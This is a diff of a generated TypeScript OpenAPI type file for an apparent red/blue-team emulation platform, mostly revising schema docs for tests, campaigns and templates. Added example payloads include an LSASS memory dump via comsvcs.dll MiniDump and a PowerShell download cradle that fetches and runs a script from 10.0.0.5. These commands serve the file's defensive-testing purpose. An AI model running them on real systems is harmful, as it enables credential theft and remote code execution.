@@ -400,7 +400,10 @@ export interface paths {
         };
         get?: never;
         put?: never;
-        /** red_executing → blue_evaluating; needs `executed_at` and `attack_outcome`. */
+        /**
+         * red_executing → blue_evaluating. The test needs `executed_at` and
+         *     `attack_outcome` first: without them, 409 `fields_missing` names them.
+         */
         post: operations["submit_test_to_blue"];
         delete?: never;
         options?: never;
@@ -417,7 +420,10 @@ export interface paths {
         };
         get?: never;
         put?: never;
-        /** blue_evaluating → completed (blue techs, leads, admins); needs `detection_outcome`. */
+        /**
+         * blue_evaluating → completed (blue techs, leads, admins). The test
+         *     needs `detection_outcome` first (409 `fields_missing` otherwise).
+         */
         post: operations["complete_test"];
         delete?: never;
         options?: never;
@@ -490,7 +496,8 @@ export interface paths {
         get: operations["list_evidence"];
         put?: never;
         /**
-         * Attach a file (multipart: optional `description`, then `file`). The
+         * Attach a file (multipart: optional `description`, then `file`, the
+         *     last part; any other part is refused with 422). The
          *     side follows the uploader: red techs add red evidence while the test is
          *     a draft or executing, blue techs blue evidence while blue evaluates,
          *     leads and admins the side that is open. Completed tests are locked.
@@ -908,9 +915,6 @@ export interface paths {
         /**
          * Replace the configuration; it must be valid against `config_schema`
          *     (each violation is listed in `errors`, named by its JSON pointer).
-         *     `If-Match` or `version` names the version edited (412 when it is not
-         *     the current one; 400 when the two disagree); without either, the
-         *     current version is replaced.
          */
         put: operations["configure_plugin"];
         post?: never;
@@ -964,13 +968,7 @@ export interface paths {
             cookie?: never;
         };
         get: operations["get_alert_rule"];
-        /**
-         * Replace a rule; needs the version edited, as `If-Match` or as the
-         *     body's `version` (428 `version_required` without either: OpenAPI
-         *     cannot say that one of a header and a body field is required). A
-         *     version that is not the current one is a 412; `If-Match` and `version`
-         *     that disagree are a 400.
-         */
+        /** Replace a rule; needs the version edited (`If-Match` or `version`). */
         put: operations["update_alert_rule"];
         post?: never;
         /** Delete a rule with its alerts and evaluation history. */
@@ -1178,45 +1176,27 @@ export interface components {
             /** Format: int64 */
             offset: number;
         };
-        /**
-         * AlertRuleInput
-         * @description A rule to create, or the whole of a rule to replace. `severity` defaults
-         *     to `medium`. Which `kind`s exist (built-in ones and enabled plugins) and
-         *     which `params` each takes are known only at run time: `GET
-         *     /api/v1/alert-kinds` lists them with their parameters' JSON Schema, and
-         *     anything else is a 422.
-         * @example {
-         *       "enabled": true,
-         *       "kind": "technique_regressed",
-         *       "name": "Regressions on credential access",
-         *       "severity": "high",
-         *       "tactic": "credential-access"
-         *     }
-         */
+        /** AlertRuleInput */
         AlertRuleInput: {
             /**
              * Format: int64
              * @description Updates: the version you edited, unless sent as `If-Match`.
              */
             version?: number;
-            /** @description 1 to 200 characters, not only spaces. */
             name: string;
             /** @description One of `GET /api/v1/alert-kinds`. */
             kind: string;
             /** @description Valid against the kind's `params_schema`; default `{}`. */
-            params?: {
-                [key: string]: unknown;
-            };
-            severity?: components["schemas"]["Severity"];
+            params?: unknown;
+            /** @description Default `medium`. */
+            severity?: components["schemas"]["Severity"] & unknown;
             /** @description Default true. */
             enabled?: boolean;
             campaign_id?: string;
             tactic?: string;
             platform?: string;
             /**
-             * @description New alerts are posted here (JSON with a Slack-compatible `text`):
-             *     an http(s) URL of at most 2,000 characters whose host is not on a
-             *     private network unless the server allows it (422 otherwise).
+             * @description New alerts are posted here (JSON with a Slack-compatible `text`).
              *     Write-only; on update, omit it to keep the current one and send ""
              *     to remove it.
              */
@@ -1228,19 +1208,12 @@ export interface components {
              */
             webhook_secret?: string;
         };
-        /**
-         * AlertRuleView
-         * @description An alert rule. A scope field (`campaign_id`, `tactic`, `platform`) is
-         *     absent when the rule looks at everything.
-         */
+        /** AlertRuleView */
         AlertRuleView: {
             id: string;
             name: string;
             kind: string;
-            /** @description Valid against the kind's `params_schema`. */
-            params: {
-                [key: string]: unknown;
-            };
+            params: unknown;
             severity: components["schemas"]["Severity"];
             enabled: boolean;
             campaign_id?: string;
@@ -1249,18 +1222,13 @@ export interface components {
             platform?: string;
             /**
              * @description Where new alerts are posted, as scheme and host only: a webhook's
-             *     full URL is often its credential (chat tools), so it is never
-             *     returned. Absent without a webhook.
+             *     full URL is often its credential (chat tools), so it is never returned.
              */
             webhook?: string;
             /** @description Whether deliveries are signed; the secret itself is never returned. */
             webhook_secret_set: boolean;
-            /**
-             * Format: date-time
-             * @description Absent until the rule's first evaluation.
-             */
+            /** Format: date-time */
             last_evaluated_at?: string;
-            /** @description Why the last evaluation failed; absent when it did not. */
             last_error?: string;
             /** Format: int64 */
             version: number;
@@ -1273,11 +1241,7 @@ export interface components {
         };
         /** @enum {string} */
         AlertStatus: "open" | "acknowledged" | "resolved";
-        /**
-         * AlertView
-         * @description An alert; who acknowledged or resolved it, and when, are absent until
-         *     someone did.
-         */
+        /** AlertView */
         AlertView: {
             id: string;
             rule_id: string;
@@ -1336,21 +1300,6 @@ export interface components {
             /** Format: int64 */
             offset: number;
         };
-        /** CampaignInput */
-        CampaignInput: {
-            /**
-             * Format: int64
-             * @description The version you edited (updates only), unless sent as `If-Match`.
-             */
-            version?: number;
-            name?: string;
-            description?: string;
-            threat_actor?: string;
-            /** Format: naive-date */
-            starts_on?: string;
-            /** Format: naive-date */
-            ends_on?: string;
-        };
         /** CampaignPage */
         CampaignPage: {
             items: components["schemas"]["CampaignView"][];
@@ -1361,18 +1310,44 @@ export interface components {
             /** Format: int64 */
             offset: number;
         };
+        /**
+         * CampaignPatchInput
+         * @description A partial change: a field left out stays as it is, `null` clears it.
+         */
+        CampaignPatchInput: {
+            /**
+             * Format: int64
+             * @description The version you edited, unless sent as `If-Match` (they must agree
+             *     when both are sent).
+             */
+            version?: number;
+            name?: string;
+            description?: string;
+            threat_actor?: string | null;
+            /** Format: date */
+            starts_on?: string | null;
+            /**
+             * Format: date
+             * @description Not before `starts_on`.
+             */
+            ends_on?: string | null;
+        };
         /** @enum {string} */
         CampaignStatus: "planned" | "active" | "completed";
-        /** CampaignView */
+        /**
+         * CampaignView
+         * @description A campaign with its progress; single-campaign answers add its `kpis`.
+         *     A field without a value is absent, never `null`.
+         */
         CampaignView: {
             id: string;
             name: string;
             description: string;
             threat_actor?: string;
             status: components["schemas"]["CampaignStatus"];
-            /** Format: naive-date */
+            /** Format: date */
             starts_on?: string;
-            /** Format: naive-date */
+            /** Format: date */
             ends_on?: string;
             /** @description `manual` or `navigator`. */
             source: string;
@@ -1394,8 +1369,7 @@ export interface components {
             };
             /** Format: int64 */
             tests_total: number;
-            /** @description The campaign's own KPIs (on single-campaign answers). */
-            kpis?: components["schemas"]["Kpis"] & unknown;
+            kpis?: components["schemas"]["Kpis"];
         };
         /** ChangePasswordRequest */
         ChangePasswordRequest: {
@@ -1459,11 +1433,10 @@ export interface components {
             attempts: number;
             /**
              * Format: int64
-             * @description The last answer's HTTP status; absent when the webhook never answered.
+             * @description The last answer's HTTP status, if the webhook answered.
              */
             status_code?: number;
             delivered: boolean;
-            /** @description Why the last attempt failed; absent once delivered. */
             error?: string;
             /** Format: date-time */
             at: string;
@@ -1505,7 +1478,7 @@ export interface components {
              * @description Alerts it opened (findings already open are not opened again).
              */
             opened: number;
-            /** @description Why the rule failed; absent when it did not. */
+            /** @description Why the rule failed, if it did. */
             error?: string;
         };
         /** EvidenceView */
@@ -1540,23 +1513,36 @@ export interface components {
         /**
          * FromTemplateInput
          * @description A test from a template: its technique and command come from the template.
+         * @example {
+         *       "arguments": {},
+         *       "name": "LSASS dump on the finance jump host",
+         *       "tags": [
+         *         "credential-access"
+         *       ],
+         *       "target_host": "jump-fin-01.corp.example"
+         *     }
          */
         FromTemplateInput: {
             /** @description Defaults to the template's name. */
             name?: string;
             /**
-             * @description Values for the template's input arguments; the rest keep their defaults.
+             * @description Values for the template's input arguments (only those it has); the
+             *     rest keep their defaults.
              * @default {}
              */
             arguments: {
                 [key: string]: string;
             };
+            /** @description An existing campaign that is not completed. */
             campaign_id?: string;
             /** @description Defaults to the template's platform when it has exactly one. */
             platform?: string;
             target_host?: string;
+            /** @description An active user. */
             red_assignee_id?: string;
+            /** @description An active user. */
             blue_assignee_id?: string;
+            /** @description Stored lower-case, sorted, without duplicates. */
             tags?: string[];
         };
         /** HealthStatus */
@@ -1593,6 +1579,7 @@ export interface components {
         /** ImportProblemView */
         ImportProblemView: {
             file: string;
+            /** @description The atomic test's name, when the problem is one test of the file. */
             test?: string;
             reason: string;
         };
@@ -1618,7 +1605,10 @@ export interface components {
             /** @description Techniques that did not become tests (unknown to the catalog, revoked...). */
             skipped: components["schemas"]["SkippedTechnique"][];
         };
-        /** InputArgumentView */
+        /**
+         * InputArgumentView
+         * @description One `#{argument}` of a template's command.
+         */
         InputArgumentView: {
             /** @default  */
             description: string;
@@ -1646,22 +1636,13 @@ export interface components {
             /** Format: date-time */
             next_run_at?: string;
         };
-        /**
-         * KpiView
-         * @description The KPIs of a scope and how they moved since its newest snapshot.
-         */
+        /** KpiView */
         KpiView: {
             scope: components["schemas"]["Scope"];
             kpis: components["schemas"]["Kpis"];
-            /**
-             * @description The snapshot the change is measured against (the newest of this
-             *     scope); absent while the scope has none.
-             */
+            /** @description The snapshot the change is measured against (the newest of this scope). */
             previous_snapshot_id?: string;
-            /**
-             * Format: date-time
-             * @description When that snapshot was taken; absent with it.
-             */
+            /** Format: date-time */
             previous_taken_at?: string;
             /** @description `now − previous` for each figure that moved. */
             change: {
@@ -1670,8 +1651,7 @@ export interface components {
         };
         /**
          * Kpis
-         * @description The numbers a lead reads first. The times are absent while no test in
-         *     scope has them.
+         * @description The numbers a lead reads first.
          */
         Kpis: {
             /** Format: int64 */
@@ -1748,122 +1728,104 @@ export interface components {
             subtechniques: components["schemas"]["TechniqueSummary"][];
         };
         /**
-         * NavigatorGradient
-         * @description The colour scale of the scores, untested to covered.
+         * NewCampaignInput
+         * @description A new campaign; it starts `planned`.
+         * @example {
+         *       "description": "The MITRE APT29 plan against the finance network.",
+         *       "ends_on": "2026-04-30",
+         *       "name": "APT29 emulation, spring",
+         *       "starts_on": "2026-04-01",
+         *       "threat_actor": "APT29"
+         *     }
          */
-        NavigatorGradient: {
-            colors: string[];
-            /** Format: int64 */
-            minValue: number;
-            /** Format: int64 */
-            maxValue: number;
-        };
-        /**
-         * NavigatorLayer
-         * @description An ATT&CK Navigator layer (format 4.5) as Aegis writes it: Navigator
-         *     opens it as is, and `POST /api/v1/campaigns/import/navigator` reads it back.
-         */
-        NavigatorLayer: {
+        NewCampaignInput: {
+            /** @description Leading and trailing spaces are dropped. */
             name: string;
-            versions: components["schemas"]["NavigatorLayerVersions"];
-            /** @description Always `enterprise-attack`. */
-            domain: string;
-            description: string;
+            description?: string;
+            threat_actor?: string;
+            /** Format: date */
+            starts_on?: string;
             /**
-             * Format: int64
-             * @description Navigator's sort order: 0 sorts by name, ascending.
+             * Format: date
+             * @description Not before `starts_on`.
              */
-            sorting: number;
-            layout: components["schemas"]["NavigatorLayout"];
-            hideDisabled: boolean;
-            techniques: components["schemas"]["NavigatorTechnique"][];
-            gradient: components["schemas"]["NavigatorGradient"];
-            legendItems: components["schemas"]["NavigatorLegendItem"][];
-            showTacticRowBackground: boolean;
-            selectTechniquesAcrossTactics: boolean;
-            selectSubtechniquesWithParent: boolean;
-            selectVisibleTechniques: boolean;
+            ends_on?: string;
         };
         /**
-         * NavigatorLayerVersions
-         * @description The versions a layer was written for.
+         * NewTemplateInput
+         * @description A template written by hand.
+         * @example {
+         *       "cleanup_command": "Remove-Item #{output_file}",
+         *       "command": "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump (Get-Process lsass).id #{output_file} full",
+         *       "description": "MiniDump of lsass.exe through rundll32.",
+         *       "elevation_required": true,
+         *       "executor": "powershell",
+         *       "input_arguments": {
+         *         "output_file": {
+         *           "default": "C:\\Windows\\Temp\\lsass.dmp",
+         *           "description": "Where the dump is written",
+         *           "type": "path"
+         *         }
+         *       },
+         *       "name": "Dump LSASS with comsvcs.dll",
+         *       "platforms": [
+         *         "windows"
+         *       ],
+         *       "technique_id": "T1003.001"
+         *     }
          */
-        NavigatorLayerVersions: {
-            /** @description The Navigator version, e.g. `5.1.0`. */
-            navigator: string;
-            /** @description The layer format, `4.5`. */
-            layer: string;
-            /**
-             * @description The ATT&CK major version of the catalog (`18`); absent before the
-             *     first sync.
-             */
-            attack?: string;
-        };
-        /**
-         * NavigatorLayout
-         * @description How Navigator lays the matrix out.
-         */
-        NavigatorLayout: {
-            /** @description `side`. */
-            layout: string;
-            showID: boolean;
-            showName: boolean;
-            /** @description `average`: a parent's score is the mean of its sub-techniques'. */
-            aggregateFunction: string;
-        };
-        /**
-         * NavigatorLegendItem
-         * @description One status of the legend and its colour.
-         */
-        NavigatorLegendItem: {
-            label: string;
-            color: string;
-        };
-        /**
-         * NavigatorMetadata
-         * @description A name and value Navigator shows with a technique.
-         */
-        NavigatorMetadata: {
+        NewTemplateInput: {
             name: string;
-            value: string;
-        };
-        /**
-         * NavigatorTechnique
-         * @description One technique of the layer: its status as score, colour and metadata.
-         */
-        NavigatorTechnique: {
-            /** @description An ATT&CK id, e.g. `T1059.001`. */
-            techniqueID: string;
-            /**
-             * Format: int64
-             * @description 3 covered, 2 partial, 1 gap, 0 untested.
-             */
-            score: number;
-            /** @description The status's colour, `#rrggbb`. */
-            color: string;
-            /** @description The test counts, and any regression, revocation or deprecation. */
-            comment: string;
-            enabled: boolean;
-            /** @description `status`, and `last tested` once tested. */
-            metadata: components["schemas"]["NavigatorMetadata"][];
-            showSubtechniques: boolean;
+            description?: string;
+            /** @description ATT&CK id from the catalog, e.g. `T1003.001`. */
+            technique_id: string;
+            /** @description Stored lower-case, sorted, without duplicates. */
+            platforms?: string[];
+            /** @description `command_prompt`, `powershell`, `sh`, `bash`, `manual`... */
+            executor?: string;
+            /** @description The procedure, with `#{argument}` placeholders. */
+            command?: string;
+            cleanup_command?: string;
+            elevation_required?: boolean;
+            /** @description Named with letters, digits, `-` and `_` (at most 64 characters). */
+            input_arguments?: {
+                [key: string]: components["schemas"]["InputArgumentView"];
+            };
         };
         /**
          * NewTestInput
          * @description A new test. It starts as a draft; the blue half is filled once blue evaluates.
+         * @example {
+         *       "name": "PowerShell download cradle",
+         *       "platform": "windows",
+         *       "procedure": "powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')\"",
+         *       "tags": [
+         *         "execution",
+         *         "q2-exercise"
+         *       ],
+         *       "target_host": "ws-042.corp.example",
+         *       "technique_id": "T1059.001"
+         *     }
          */
         NewTestInput: {
+            /** @description Leading and trailing spaces are dropped. */
             name: string;
-            /** @description ATT&CK id from the catalog, e.g. `T1059.001`. */
+            /**
+             * @description ATT&CK id from the catalog, e.g. `T1059.001`; it must be in the
+             *     catalog, neither revoked nor deprecated.
+             */
             technique_id: string;
-            /** @description `enterprise-attack` (default), `mobile-attack` or `ics-attack`. */
-            technique_domain?: string;
+            technique_domain?: components["schemas"]["TechniqueDomain"];
+            /** @description An existing campaign that is not completed. */
             campaign_id?: string;
             procedure?: string;
             platform?: string;
             target_host?: string;
+            /** @description An active user; a red tech's test is theirs when left out. */
             red_assignee_id?: string;
+            /** @description An active user. */
             blue_assignee_id?: string;
+            /** @description Stored lower-case, sorted, without duplicates. */
             tags?: string[];
             /** Format: date-time */
             executed_at?: string;
@@ -1871,17 +1833,13 @@ export interface components {
             red_notes?: string;
         };
         /**
-         * PluginConfigInput
-         * @description A plugin's new configuration. Whether it is valid depends on the
-         *     plugin's own `config_schema`, known only at run time: a violation is a
-         *     422 naming each field by its JSON pointer.
-         * @example {
-         *       "config": {
-         *         "hours": 48
-         *       },
-         *       "version": 3
-         *     }
+         * @description An attack outcome (`succeeded`, `failed`, `blocked`) or a detection
+         *     outcome (`prevented`, `alerted`, `logged`, `not_detected`): the two sets
+         *     do not overlap, so one filter takes both.
+         * @enum {string}
          */
+        OutcomeFilter: "succeeded" | "failed" | "blocked" | "prevented" | "alerted" | "logged" | "not_detected";
+        /** PluginConfigInput */
         PluginConfigInput: {
             /**
              * Format: int64
@@ -1889,9 +1847,7 @@ export interface components {
              */
             version?: number;
             /** @description The new configuration: a JSON object valid against `config_schema`. */
-            config: {
-                [key: string]: unknown;
-            };
+            config: unknown;
         };
         /**
          * @description The extension points a plugin can fill, one WIT world each.
@@ -1910,9 +1866,7 @@ export interface components {
         };
         /**
          * PluginView
-         * @description A registered plugin. What a plugin does not have (a file name, a report
-         *     format's media type and extension, a reason it was switched off, a last
-         *     failure) is absent.
+         * @description A registered plugin.
          */
         PluginView: {
             id: string;
@@ -1929,10 +1883,7 @@ export interface components {
             file_name?: string;
             /** @description JSON Schema of its configuration. */
             config_schema: unknown;
-            /** @description Valid against `config_schema`. */
-            config: {
-                [key: string]: unknown;
-            };
+            config: unknown;
             /** @description Report formats: the media type and extension of what they render. */
             media_type?: string;
             file_extension?: string;
@@ -1997,19 +1948,7 @@ export interface components {
             /** @description `builtin` or `plugin`. */
             source: string;
         };
-        /**
-         * ReportInput
-         * @description A report to generate. Two rules answer 422 because OpenAPI 3.0 cannot
-         *     state them: `format` must be one of `GET /api/v1/report-formats` (built-in
-         *     formats and enabled plugins, known at run time), and `campaign_id` is
-         *     required for a `campaign` report only (it narrows the others).
-         * @example {
-         *       "format": "pdf",
-         *       "kind": "coverage",
-         *       "platform": "windows",
-         *       "title": "Windows coverage, Q3"
-         *     }
-         */
+        /** ReportInput */
         ReportInput: {
             kind: components["schemas"]["ReportKind"];
             /** @description One of `GET /api/v1/report-formats`. */
@@ -2037,13 +1976,7 @@ export interface components {
         };
         /** @enum {string} */
         ReportStatus: "queued" | "running" | "ready" | "failed";
-        /**
-         * ReportView
-         * @description A report and where its generation stands. What only a finished report
-         *     has (`media_type`, `file_name`, `size_bytes`, `download_url`,
-         *     `finished_at`) is absent before; `error` only on a failed one; the scope
-         *     fields when the report has no such scope.
-         */
+        /** ReportView */
         ReportView: {
             id: string;
             kind: components["schemas"]["ReportKind"];
@@ -2085,7 +2018,7 @@ export interface components {
         /**
          * Scope
          * @description Which tests count: one campaign, one platform, a date range on when the
-         *     test ran (or was created, before it ran). A part left out means "any".
+         *     test ran (or was created, before it ran). Empty means everything.
          */
         Scope: {
             campaign_id?: string;
@@ -2149,17 +2082,8 @@ export interface components {
             /** Format: int64 */
             offset: number;
         };
-        /**
-         * SnapshotRequest
-         * @description The scope of a snapshot; every field may be left out (`{}` is the whole
-         *     matrix). `from` must not be after `to` (422).
-         * @example {
-         *       "from": "2026-01-01T00:00:00+00:00",
-         *       "platform": "windows"
-         *     }
-         */
+        /** SnapshotRequest */
         SnapshotRequest: {
-            /** Format: uuid */
             campaign_id?: string;
             platform?: string;
             /** Format: date-time */
@@ -2175,11 +2099,7 @@ export interface components {
          * @enum {string}
          */
         Status: "covered" | "partial" | "gap" | "untested";
-        /**
-         * StatusChangeView
-         * @description A technique whose status moved between two snapshots; a side is absent
-         *     when the technique was not in that snapshot.
-         */
+        /** StatusChangeView */
         StatusChangeView: {
             attack_id: string;
             before?: components["schemas"]["Status"];
@@ -2273,7 +2193,6 @@ export interface components {
             logged: number;
             /** Format: int64 */
             missed: number;
-            /** @description When the newest completed test in scope ran; absent when untested. */
             last_tested_at?: string;
             /**
              * @description Detected (prevented or alerted) before, missed by the latest test of
@@ -2282,7 +2201,6 @@ export interface components {
             regression: boolean;
             revoked: boolean;
             deprecated: boolean;
-            /** @description The technique that replaces a revoked one, when MITRE names it. */
             replaced_by?: string;
         };
         /**
@@ -2311,6 +2229,11 @@ export interface components {
             deprecated: boolean;
             missing_since?: string;
         };
+        /**
+         * @description An ATT&CK domain; `enterprise-attack` when left out.
+         * @enum {string}
+         */
+        TechniqueDomain: "enterprise-attack" | "mobile-attack" | "ics-attack";
         /** TechniquePage */
         TechniquePage: {
             items: components["schemas"]["TechniqueSummary"][];
@@ -2355,25 +2278,6 @@ export interface components {
             missing_since?: string;
             url?: string;
         };
-        /** TemplateInput */
-        TemplateInput: {
-            /**
-             * Format: int64
-             * @description The version you edited (updates only), unless sent as `If-Match`.
-             */
-            version?: number;
-            name?: string;
-            description?: string;
-            technique_id?: string;
-            platforms?: string[];
-            executor?: string;
-            command?: string;
-            cleanup_command?: string;
-            elevation_required?: boolean;
-            input_arguments?: {
-                [key: string]: components["schemas"]["InputArgumentView"];
-            };
-        };
         /** TemplatePage */
         TemplatePage: {
             items: components["schemas"]["TemplateView"][];
@@ -2384,7 +2288,35 @@ export interface components {
             /** Format: int64 */
             offset: number;
         };
-        /** TemplateView */
+        /**
+         * TemplatePatchInput
+         * @description A partial change to a template: a field left out stays as it is, `null`
+         *     clears it.
+         */
+        TemplatePatchInput: {
+            /**
+             * Format: int64
+             * @description The version you edited, unless sent as `If-Match` (they must agree
+             *     when both are sent).
+             */
+            version?: number;
+            name?: string;
+            description?: string;
+            technique_id?: string;
+            platforms?: string[];
+            executor?: string | null;
+            command?: string;
+            cleanup_command?: string | null;
+            elevation_required?: boolean;
+            /** @description The whole set: arguments left out are removed. */
+            input_arguments?: {
+                [key: string]: components["schemas"]["InputArgumentView"];
+            };
+        };
+        /**
+         * TemplateView
+         * @description A reusable procedure. A field without a value is absent, never `null`.
+         */
         TemplateView: {
             id: string;
             name: string;
@@ -2425,43 +2357,64 @@ export interface components {
         };
         /**
          * TestPatchInput
-         * @description A partial change. Plan and red fields are for red techs, leads and admins;
-         *     blue fields for blue techs, leads and admins. `null` clears a field.
+         * @description A partial change: a field left out stays as it is, `null` clears it.
+         *     Plan and red fields are for red techs, leads and admins; blue fields for
+         *     blue techs, leads and admins; each group only while the test's state
+         *     leaves it open (409 `fields_locked` otherwise).
+         * @example {
+         *       "attack_outcome": "succeeded",
+         *       "executed_at": "2026-03-02T10:15:00+00:00",
+         *       "red_notes": "Ran from an unprivileged session; the script was fetched."
+         *     }
          */
         TestPatchInput: {
             /**
              * Format: int64
-             * @description The version you edited, unless sent as `If-Match`.
+             * @description The version you edited, unless sent as `If-Match` (they must agree
+             *     when both are sent).
              */
             version?: number;
             name?: string;
-            technique_domain?: string;
+            technique_domain?: components["schemas"]["TechniqueDomain"];
             technique_id?: string;
-            campaign_id?: string;
+            campaign_id?: string | null;
             procedure?: string;
-            platform?: string;
-            target_host?: string;
-            red_assignee_id?: string;
-            blue_assignee_id?: string;
+            platform?: string | null;
+            target_host?: string | null;
+            red_assignee_id?: string | null;
+            blue_assignee_id?: string | null;
             tags?: string[];
             /** Format: date-time */
-            executed_at?: string;
-            attack_outcome?: components["schemas"]["AttackOutcome"];
+            executed_at?: string | null;
+            attack_outcome?: components["schemas"]["AttackOutcome"] | null;
             red_notes?: string;
-            detection_outcome?: components["schemas"]["DetectionOutcome"];
-            /** Format: date-time */
-            detected_at?: string;
-            detection_source?: string;
+            detection_outcome?: components["schemas"]["DetectionOutcome"] | null;
+            /**
+             * Format: date-time
+             * @description Not before `executed_at`.
+             */
+            detected_at?: string | null;
+            detection_source?: string | null;
             blue_notes?: string;
         };
+        /**
+         * @description The order of a test list: a column, with a leading `-` for descending.
+         * @enum {string}
+         */
+        TestSortKey: "name" | "-name" | "created_at" | "-created_at" | "updated_at" | "-updated_at" | "executed_at" | "-executed_at" | "state" | "-state" | "technique_id" | "-technique_id";
         /** @enum {string} */
         TestState: "draft" | "red_executing" | "blue_evaluating" | "completed" | "cancelled";
-        /** TestView */
+        /**
+         * TestView
+         * @description A test: its plan, the red half (what was done) and the blue half (what
+         *     was seen). A field without a value is absent, never `null`.
+         */
         TestView: {
             id: string;
             name: string;
             technique: components["schemas"]["TechniqueRefView"];
             campaign_id?: string;
+            /** @description The template the test was made from. */
             template_id?: string;
             procedure: string;
             platform?: string;
@@ -5579,11 +5532,7 @@ export interface operations {
                 campaign_id?: string;
                 /** @description A user id (red or blue assignee), or `me`. */
                 assignee?: string;
-                /**
-                 * @description An attack outcome (`succeeded`, `failed`, `blocked`) or a detection
-                 *     outcome (`prevented`, `alerted`, `logged`, `not_detected`).
-                 */
-                outcome?: string;
+                outcome?: components["schemas"]["OutcomeFilter"];
                 platform?: string;
                 tag?: string;
                 created_after?: string;
@@ -5592,11 +5541,9 @@ export interface operations {
                 executed_before?: string;
                 /** @description Part of the name, procedure, host or technique id. */
                 q?: string;
-                /**
-                 * @description `name`, `created_at`, `updated_at`, `executed_at`, `state` or
-                 *     `technique_id`; a leading `-` sorts descending. Default `-created_at`.
-                 */
-                sort?: string;
+                /** @description Default `-created_at`. */
+                sort?: components["schemas"]["TestSortKey"];
+                /** @description 1 to 500, default 50. */
                 limit?: number;
                 offset?: number;
             };
@@ -6025,6 +5972,11 @@ export interface operations {
         parameters: {
             query?: never;
             header?: {
+                /**
+                 * @description The version you edited, as its `ETag` gave it (`"3"`). This or
+                 *     the body's `version` is required (428 without either, 400 when
+                 *     they disagree); a version that is no longer current gets 412.
+                 */
                 "If-Match"?: string;
             };
             path: {
@@ -6882,6 +6834,7 @@ export interface operations {
     get_test_history: {
         parameters: {
             query?: {
+                /** @description 1 to 500, default 50. */
                 limit?: number;
                 offset?: number;
             };
@@ -7174,13 +7127,13 @@ export interface operations {
         requestBody: {
             content: {
                 "multipart/form-data": {
+                    /** @description A note about the file; send it before `file`. */
+                    description?: string;
                     /**
                      * Format: binary
-                     * @description The file; its part's Content-Type is its media type.
+                     * @description The file. Its part's `Content-Type` is kept as its media type (`application/octet-stream` when absent) and must be one the server accepts (`[evidence] allowed_media_types`, 415 otherwise).
                      */
                     file: string;
-                    /** @description Optional note about the file. */
-                    description?: string;
                 };
             };
         };
@@ -7607,12 +7560,18 @@ export interface operations {
         };
         requestBody?: never;
         responses: {
+            /** @description The file, with the media type it was uploaded with. */
             200: {
                 headers: {
+                    /** @description `attachment` with the file's name (RFC 6266). */
+                    "Content-Disposition": string;
+                    /** @description Hex SHA-256 of the file. */
+                    "X-Checksum-SHA256": string;
                     [name: string]: unknown;
                 };
                 content: {
                     "application/octet-stream": string;
+                    "*/*": string;
                 };
             };
             /** @description The request is malformed. */
@@ -7744,6 +7703,7 @@ export interface operations {
                 /** @description `manual` or `atomic-red-team`. */
                 source?: string;
                 q?: string;
+                /** @description 1 to 500, default 50. */
                 limit?: number;
                 offset?: number;
             };
@@ -7891,7 +7851,7 @@ export interface operations {
         };
         requestBody: {
             content: {
-                "application/json; charset=utf-8": components["schemas"]["TemplateInput"];
+                "application/json; charset=utf-8": components["schemas"]["NewTemplateInput"];
             };
         };
         responses: {
@@ -8308,6 +8268,11 @@ export interface operations {
         parameters: {
             query?: never;
             header?: {
+                /**
+                 * @description The version you edited, as its `ETag` gave it (`"3"`). This or
+                 *     the body's `version` is required (428 without either, 400 when
+                 *     they disagree); a version that is no longer current gets 412.
+                 */
                 "If-Match"?: string;
             };
             path: {
@@ -8317,7 +8282,7 @@ export interface operations {
         };
         requestBody: {
             content: {
-                "application/json; charset=utf-8": components["schemas"]["TemplateInput"];
+                "application/json; charset=utf-8": components["schemas"]["TemplatePatchInput"];
             };
         };
         responses: {
@@ -8609,11 +8574,9 @@ export interface operations {
                 "multipart/form-data": {
                     /**
                      * Format: binary
-                     * @description The file; its part's Content-Type is its media type.
+                     * @description One Atomic Red Team `Txxxx.yaml`, UTF-8, at most 2 MiB.
                      */
                     file: string;
-                    /** @description Optional note about the file. */
-                    description?: string;
                 };
             };
         };
@@ -8753,6 +8716,7 @@ export interface operations {
                 status?: components["schemas"]["CampaignStatus"];
                 /** @description Part of the name, description or threat actor. */
                 q?: string;
+                /** @description 1 to 500, default 50. */
                 limit?: number;
                 offset?: number;
             };
@@ -8900,7 +8864,7 @@ export interface operations {
         };
         requestBody: {
             content: {
-                "application/json; charset=utf-8": components["schemas"]["CampaignInput"];
+                "application/json; charset=utf-8": components["schemas"]["NewCampaignInput"];
             };
         };
         responses: {
@@ -9317,6 +9281,11 @@ export interface operations {
         parameters: {
             query?: never;
             header?: {
+                /**
+                 * @description The version you edited, as its `ETag` gave it (`"3"`). This or
+                 *     the body's `version` is required (428 without either, 400 when
+                 *     they disagree); a version that is no longer current gets 412.
+                 */
                 "If-Match"?: string;
             };
             path: {
@@ -9326,7 +9295,7 @@ export interface operations {
         };
         requestBody: {
             content: {
-                "application/json; charset=utf-8": components["schemas"]["CampaignInput"];
+                "application/json; charset=utf-8": components["schemas"]["CampaignPatchInput"];
             };
         };
         responses: {
@@ -9754,11 +9723,9 @@ export interface operations {
                 "multipart/form-data": {
                     /**
                      * Format: binary
-                     * @description The file; its part's Content-Type is its media type.
+                     * @description An ATT&CK Navigator layer file (JSON, format 4.x or 3.0): one layer or a list of layers, at most 8 MiB.
                      */
                     file: string;
-                    /** @description Optional note about the file. */
-                    description?: string;
                 };
             };
         };
@@ -9898,9 +9865,7 @@ export interface operations {
             query?: {
                 campaign_id?: string;
                 platform?: string;
-                /** @description Tests that ran (or were created, before they ran) at or after this time. */
                 from?: string;
-                /** @description Tests that ran (or were created) at or before this time; not before `from`. */
                 to?: string;
                 /** @description Only techniques with this status. */
                 status?: components["schemas"]["Status"];
@@ -10045,9 +10010,7 @@ export interface operations {
             query?: {
                 campaign_id?: string;
                 platform?: string;
-                /** @description Tests that ran (or were created, before they ran) at or after this time. */
                 from?: string;
-                /** @description Tests that ran (or were created) at or before this time; not before `from`. */
                 to?: string;
             };
             header?: never;
@@ -10061,7 +10024,7 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
-                    "application/json; charset=utf-8": components["schemas"]["NavigatorLayer"];
+                    "application/json; charset=utf-8": unknown;
                 };
             };
             /** @description The request is malformed. */
@@ -10190,9 +10153,7 @@ export interface operations {
             query?: {
                 campaign_id?: string;
                 platform?: string;
-                /** @description Tests that ran (or were created, before they ran) at or after this time. */
                 from?: string;
-                /** @description Tests that ran (or were created) at or before this time; not before `from`. */
